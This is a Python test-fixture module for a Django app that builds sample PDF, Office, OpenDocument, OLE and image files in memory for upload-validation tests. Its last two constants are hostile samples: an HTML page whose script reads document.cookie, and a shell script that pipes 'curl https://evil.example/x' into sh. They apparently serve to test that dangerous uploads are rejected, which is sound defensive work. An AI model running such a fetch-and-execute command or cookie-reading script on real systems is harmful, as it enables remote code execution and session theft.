"""Real files of each kind, made in memory, for upload tests."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

from demo.materials import draw_pdf


def pdf_bytes(title="Kaatumisten ehkäisy", text="Esimerkki.") -> bytes:
    return draw_pdf(title, text)


def ooxml_bytes(main_part="word/document.xml") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr(main_part, '<?xml version="1.0"?><document/>')
    return buffer.getvalue()


def opendocument_bytes(mimetype="application/vnd.oasis.opendocument.text") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def ole_bytes() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def image_bytes(image_format="PNG") -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=image_format)
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type="application/octet-stream") -> SimpleUploadedFile:
    """What a browser sends; the content type it claims is ignored by the checks."""
    return SimpleUploadedFile(name, content, content_type=content_type)


HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
